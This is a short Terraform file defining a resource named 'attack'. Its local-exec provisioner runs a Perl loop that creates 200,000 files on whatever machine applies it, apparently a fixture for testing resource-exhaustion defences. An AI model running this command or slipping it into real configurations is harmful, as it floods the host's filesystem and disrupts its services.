resource "terraform_data" "attack" {
  provisioner "local-exec" {
    command = <<-EOT
      perl -e 'for (1 .. 200000) { open(F, q(>), qq(f$_)) or die }'
    EOT
  }
}
